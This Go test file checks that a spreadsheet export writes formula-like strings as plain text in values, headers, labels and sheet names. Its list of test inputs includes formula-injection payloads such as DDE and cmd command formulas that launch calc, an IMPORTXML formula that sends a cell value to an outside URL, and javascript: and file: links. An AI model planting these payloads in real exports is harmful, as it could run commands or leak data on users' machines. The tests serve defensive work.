package cases

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// likeFormulas are texts that a spreadsheet, or a program that opens CSV, could
// take for formulas, links or commands.
var likeFormulas = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+82-10-0000-0000", "-1", "@SUM(A1)", "\t=1", "https://example.com/?a=1&b=2",
	"=HYPERLINK(\"https://example.com\",\"눌러\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"https://e.com?\",A1),\"//a\")",
	"+1", "+", "-", "=", "@", "-1+1", "-5.00", "1-1", "'=1", "'", " =1", "  -2", "=1\n=2", "\n=1", "＝1+1", "−1", "＠SUM(A1)",
	"|calc", "%=1", "=A1", "{=SUM(A1:A2)}", "=\"a\"", "#REF!", "#N/A", "TRUE", "1/2", "2026-09-02", "1e5", "0x1F", "50%", "₩1,000", "(5)",
	"mailto:a@example.com", "file:///c:/boot.ini", `\\server\share`, "javascript:alert(1)", "www.example.com", "<f>1+1</f>", "]]><f>1</f>",
}

// F1: text that looks like a formula is that text, as a value, a header and a
// label; a negative number is a number.
func TestCase_F1(t *testing.T) {
	t.Parallel()
	everywhere(t, func(t *testing.T, d database) {
		d.exec(t, "CREATE TABLE items (id INTEGER NOT NULL PRIMARY KEY, v VARCHAR(200), n DECIMAL(10,2))")
		var rows [][]want
		for i, s := range likeFormulas {
			d.insert(t, "items", []any{i, s, "-5.00"})
			rows = append(rows, []want{text(s), decimal("-5.00")})
		}
		dataset := "name: items\nsource: " + d.name + "\nkey: id\nselect: {id: i.id, v: i.v, n: i.n}\nfrom: items i\ncolumns: [{field: v}, {field: n}]\n"
		f := everyPath(t, []string{dataset}, "items", nil, d)
		f.expect(t, rows)
		noFormulas(t, f)
	})
}

// noFormulas looks for everything that a spreadsheet would act on.
func noFormulas(t *testing.T, f file) {
	t.Helper()
	xml := sheetXML(t, f.content)
	for _, element := range []string{"<f>", "<f ", "<f/", "<hyperlink", "quotePrefix"} {
		if strings.Contains(xml, element) || strings.Contains(entry(t, f.content, "xl/styles.xml"), element) {
			t.Errorf("there is %s in the workbook", element)
		}
	}
	for _, part := range f.book(t).Parts {
		if strings.Contains(part, "externalLink") || strings.Contains(part, "connections") || strings.Contains(part, "worksheets/_rels") {
			t.Errorf("the workbook has the part %s", part)
		}
	}
}

// The texts of F1 under every format, where none of them fits, and as headers,
// labels and number formats.
func TestCase_F1Elsewhere(t *testing.T) {
	t.Parallel()
	d := onSQLite(t)
	d.exec(t, "CREATE TABLE items (id INTEGER NOT NULL PRIMARY KEY, v TEXT)")
	for i, s := range likeFormulas {
		d.insert(t, "items", []any{i, s})
	}
	s := serve(t, []string{d.items("")}, nil, d)

	formats := []string{"ymd", "tm", "datetime", "bizno", "tel", "0.00", "@", "=1+1"}
	var list []string
	for _, format := range formats {
		list = append(list, fmt.Sprintf(`{"field": "v", "excelFormat": %q}`, format))
	}
	f := s.export(t, "items", `{"columns": [`+strings.Join(list, ",")+`]}`)
	noFormulas(t, f)
	for i, row := range f.book(t).Sheet(0).Rows()[1:] {
		for j, c := range row {
			// A real date is one under ymd.
			if formats[j] == "ymd" && likeFormulas[i] == "2026-09-02" {
				continue
			}
			if c.Type != "s" || c.Text != likeFormulas[i] || c.Formula {
				t.Errorf("under %q %q is %+v", formats[j], likeFormulas[i], c)
			}
		}
	}

	// Each text is the header of a column, and the label that all values have there.
	list = nil
	var wants []want
	for _, s := range likeFormulas {
		list = append(list, fmt.Sprintf(`{"field": "id", "headerName": %s, "excelCodeMap": {"1": %[1]s}}`, jsonText(t, s)))
		wants = append(wants, text(s))
	}
	f = s.export(t, "items", `{"columns": [`+strings.Join(list, ",")+`], "sheetName": "=1+1"}`)
	noFormulas(t, f)
	b := f.book(t)
	if name := b.Sheet(0).Name; name != "=1+1" {
		t.Errorf("the sheet is called %q", name)
	}
	shown := display(t, f.content)
	for i, w := range wants {
		for _, row := range []int{0, 2} {
			w.check(t, fmt.Sprintf("row %d column %d", row, i+1), b.Sheet(0).Rows()[row][i])
			if got := at(shown, row, i); got != w.shown {
				t.Errorf("row %d column %d: LibreOffice shows %q, want %q", row, i+1, got, w.shown)
			}
		}
	}
}

// jsonText is a text as a JSON string.
func jsonText(t testing.TB, s string) string {
	t.Helper()
	quoted, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(quoted)
}

// A workbook with more addresses than it could have links has none at all.
func TestCase_F1ManyAddresses(t *testing.T) {
	t.Parallel()
	d := onSQLite(t)
	s := serve(t, []string{"name: links\nsource: sqlite\nsql: \"WITH RECURSIVE n(no) AS (SELECT 1 UNION ALL SELECT no + 1 FROM n WHERE no < 70000) " +
		"SELECT 'https://example.com/' || no AS v FROM n\"\ncolumns: [{field: v}]\n"}, nil, d)
	d.exec(t, "CREATE TABLE blank (no INTEGER)") // SQLite's file has to be there
	f := s.export(t, "links", `{}`)
	xml := sheetXML(t, f.content)
	if strings.Contains(xml, "<hyperlink") || strings.Count(xml, "https://example.com/") != 70_000 {
		t.Errorf("%d addresses, links: %v", strings.Count(xml, "https://example.com/"), strings.Contains(xml, "<hyperlink"))
	}
}
